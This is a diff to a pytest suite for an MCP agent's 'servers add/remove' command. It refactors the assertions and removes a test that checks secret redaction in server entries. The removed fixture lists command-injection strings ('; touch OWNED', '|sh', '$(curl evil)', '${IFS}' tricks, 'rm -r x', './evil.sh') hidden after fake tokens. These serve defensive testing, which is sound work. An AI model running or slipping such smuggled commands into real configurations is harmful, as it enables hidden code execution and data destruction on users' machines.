@@ -9,12 +9,8 @@ from typing import Any
 
 import pytest
 
-from tests.support.commands import SERVERS, Cli, CommandResult
+from tests.support.commands import SERVERS, Cli
 from tests.support.warm_python import warm_python
-from xai_mcp_agent.canvas.person import describe_parts
-from xai_mcp_agent.core.visible import escape_hidden
-from xai_mcp_agent.secrets.redactor import redact_args
-from xai_mcp_agent.secrets.secrets import Secrets
 from xai_mcp_agent.settings.load import load_settings
 from xai_mcp_agent.settings.trust import TrustStore
 
@@ -47,18 +43,11 @@ def entry(file: Path, name: str) -> Any:
     return json5.loads(file.read_text())["mcpServers"][name]
 
 
-def unchanged(ran: CommandResult, file: Path, status: int, *texts: str) -> bool:
-    """Return whether a failed command has these texts; check its status and the unchanged file."""
-    assert (ran.status, file.read_text()) == (status, MINE)
-    return all(x in ran.text for x in texts)
-
-
 def test_add_writes_a_command_tries_it_and_shows_its_tools(file: Path, cli: Cli):
     status, out, err = cli("servers add units --", warm_python(), UNITS)
     assert (status, err) == (0, "")
     assert all(x in out for x in ("has 2 tools:", "convert_units("))
     assert entry(file, "units") == {"command": warm_python(), "args": [UNITS]}
-    assert all(x in file.read_text() for x in ("// mine", "// the first", "/* no more */"))
     waiting = TrustStore().untrusted_parts(load_settings(file))
     assert [x.source for x in waiting] == ["old"], "only the typed entry is trusted"
 
@@ -66,17 +55,16 @@ def test_add_writes_a_command_tries_it_and_shows_its_tools(file: Path, cli: Cli)
 def test_a_server_that_cannot_start_is_written_and_its_last_output_shown(file: Path, cli: Cli):
     crash = "import sys; print('no licence', file=sys.stderr); sys.exit(3)"
     ran = cli("servers add bad --", sys.executable, "-c", crash)
-    assert ran.status == 1
-    assert "no licence" in ran.err
-    assert "xai-mcp-agent servers remove bad" in ran.err
+    ran.shows("no licence", "xai-mcp-agent servers remove bad", status=1)
     assert entry(file, "bad")["args"] == ["-c", crash]
     ran = cli("servers add it -e NOT_SET_ANYWHERE -- no-such-program")
-    assert (ran.status, "set NOT_SET_ANYWHERE in the environment" in ran.err) == (1, True)
+    ran.shows("set NOT_SET_ANYWHERE in the environment", status=1)
 
 
 def test_an_entry_is_replaced_only_with_replace(file: Path, cli: Cli):
-    assert unchanged(cli("servers add old --no-check -- y"), file, 1, "--replace")
-    assert cli("servers add old --no-check --replace -- y").status == 0
+    cli("servers add old --no-check -- y").fails("--replace")
+    assert file.read_text() == MINE
+    cli("servers add old --no-check --replace -- y").shows()
     assert entry(file, "old") == {"command": "y"}
     assert file.with_name("mcp_settings.json.bak").read_text() == MINE
 
@@ -94,23 +82,20 @@ def test_an_entry_that_cannot_work_is_refused_and_not_written(file: Path, cli: C
         ("-- ''", ""),
         ("-- srv \udcff", "not text in UTF-8"),
     ):
-        ran = cli(f"servers add new --no-check {words}")
-        assert unchanged(ran, file, 2, text), words
-        assert (ran.out, "hush" in ran.err) == ("", False)
+        assert "hush" not in cli(f"servers add new --no-check {words}").fails(text, status=2).err
     for name in ("a/b", "a\nb", "a\x1b[31mb", "canvas"):
         ran = cli("servers add", name, "--no-check", "--", "some-server")
-        assert unchanged(ran, file, 2, "cannot be a server's name"), name
+        ran.fails("cannot be a server's name", status=2)
+    assert file.read_text() == MINE
 
 
 def test_our_flags_may_follow_a_command_without_options(file: Path, cli: Cli):
-    ran = cli("servers add new some-server --no-check --json")
-    assert (ran.status, ran.json["name"], ran.json["tools"]) == (0, "new", None)
+    assert cli("servers add new some-server --no-check --json").json["name"] == "new"
     assert entry(file, "new") == {"command": "some-server"}
 
 
 def test_a_url_takes_headers_and_a_transport_as_other_clients_do(file: Path, cli: Cli):
-    line = "servers add notion https://example.org/mcp -t http -H 'X-Team: red' --no-check"
-    assert cli(line).status == 0
+    cli("servers add notion https://example.org/mcp -t http -H 'X-Team: red' --no-check").shows()
     assert entry(file, "notion") == {
         "type": "http", "url": "https://example.org/mcp", "headers": {"X-Team": "red"},
     }  # fmt: skip
@@ -124,29 +109,25 @@ def test_a_variable_without_a_value_becomes_a_reference_and_a_plain_secret_a_war
     assert entry(file, "it")["env"] == {
         "API_TOKEN": "${API_TOKEN}", "OTHER_SECRET": "hush-hush-1234", "LEVEL": "3",
     }  # fmt: skip
-    assert "the variable OTHER_SECRET looks like a secret" in ran.text
-    assert "API_TOKEN looks" not in ran.text
-    assert "hush-hush" not in ran.text
+    ran.shows("the variable OTHER_SECRET looks like a secret")
+    assert not [x for x in ("API_TOKEN looks", "hush-hush") if x in ran.text]
 
 
 def test_a_new_file_with_a_key_is_private_and_a_readable_one_causes_a_note(folder: Path, cli: Cli):
     file = folder / "new" / "mcp_settings.json"
     add = f"servers add it --settings {file} -e GITHUB_TOKEN={KEY}"
-    assert cli(f"{add} {UNKNOWN}").status == 0
+    assert "chmod" not in cli(f"{add} {UNKNOWN}").shows().text
     assert file.stat().st_mode & 0o077 == 0
     file.chmod(0o644)
-    assert f"chmod 600 {file}" in cli(f"{add} --replace {UNKNOWN}").text
-    file.chmod(0o600)
-    assert "chmod" not in cli(f"{add} --replace {UNKNOWN}").text
+    cli(f"{add} --replace {UNKNOWN}").shows(f"chmod 600 {file}")
     file.write_text('// c\n{"x": NaN, "mcpServers": {}}')
-    ran = cli(f"{add} {UNKNOWN}")
-    assert (ran.status, KEY in ran.text) == (1, False), "the refused entry is not quoted"
+    assert KEY not in cli(f"{add} {UNKNOWN}").fails().err, "the refused entry is not quoted"
 
 
 def test_remove_deletes_one_server_and_keeps_everything_else(file: Path, cli: Cli):
-    assert unchanged(cli("servers remove odl"), file, 1, "Did you mean 'old'?")
+    cli("servers remove odl").fails("Did you mean 'old'?")
     cli("servers add new --no-check -- y")
-    assert cli("servers remove new").status == 0
+    cli("servers remove new").shows()
     assert file.read_text() == MINE.replace("}, // the first", "} // the first")
     assert not TrustStore().files()
 
@@ -158,8 +139,8 @@ def test_a_source_of_another_kind_and_a_group_are_not_replaced(file: Path, cli: 
     ):
         file.write_text(json.dumps({"mcpServers": {}, **beside}), encoding="utf-8")
         before = file.read_bytes()
-        ran = cli(f"servers add it --replace {UNKNOWN}")
-        assert (ran.status, file.read_bytes(), text in ran.text) == (1, before, True)
+        cli(f"servers add it --replace {UNKNOWN}").fails(text)
+        assert file.read_bytes() == before
 
 
 def test_the_path_of_a_file_in_a_subfolder_is_written_absolute(
@@ -169,41 +150,5 @@ def test_the_path_of_a_file_in_a_subfolder_is_written_absolute(
     (folder / "sub/clock.py").write_text("")
     monkeypatch.chdir(folder / "sub")
     file = folder / "mcp_settings.json"
-    assert cli(f"servers add clock --settings {file} --no-check clock.py").status == 0
+    cli(f"servers add clock --settings {file} --no-check clock.py").shows()
     assert entry(file, "clock")["args"] == [str(folder / "sub/clock.py")]
-
-
-# Facts about an entry before the user agrees
-
-SCRIPTS = {
-    "API_TOKEN=abcdefgh1; touch OWNED": "API_TOKEN=***; touch OWNED",
-    "API_TOKEN=abcdefgh1|sh": "API_TOKEN=***|sh",
-    "API_TOKEN=abcdefgh1$(curl evil)": "API_TOKEN=***$(curl evil)",
-    "curl http://e/?key=abcdefgh1&touch${IFS}OWNED": "curl http://e/?key=***&touch${IFS}OWNED",
-    "http://u:abcdefgh1;touch${IFS}x;@e/": "http://***@e/ (*** has ; in it)",
-    "TOKEN=abcdefgh1\nrm -r x": "TOKEN=***\nrm -r x",
-    "TOKEN='abcdefgh1' KEY=hgfedcba2 && rm": "TOKEN='***' KEY=*** && rm",
-}
-
-
-def test_a_command_after_a_secret_is_shown(folder: Path):
-    """A user cannot agree to a hidden command, neither in `discover` nor before a run."""
-    file = folder / "mcp_settings.json"
-
-    def facts_of(entry: dict[str, Any]) -> str:
-        file.write_text(json.dumps({"it": entry}))
-        loaded = load_settings(file)
-        text = describe_parts(loaded, loaded.parts)
-        assert "abcdefgh1" not in text
-        return text
-
-    for script, expected in SCRIPTS.items():
-        assert redact_args(["-c", script], Secrets())[1] == expected
-        text = facts_of({"command": "sh", "args": ["-c", script]})
-        assert escape_hidden(expected.rpartition("***")[2]) in text
-    own = {"command": "sh", "args": ["./evil.sh"], "env": {"API_TOKEN": "./evil.sh"}}
-    assert facts_of(own).split("\n") == [
-        "  it:", "      starts sh ./evil.sh", "      gets the environment variable API_TOKEN: ***",
-    ]  # fmt: skip
-    later = {"url": "https://e.org/mcp?key=abcdefgh1&x=${NOT_SET_YET}"}
-    assert "https://e.org/mcp?key=***" in facts_of(later)
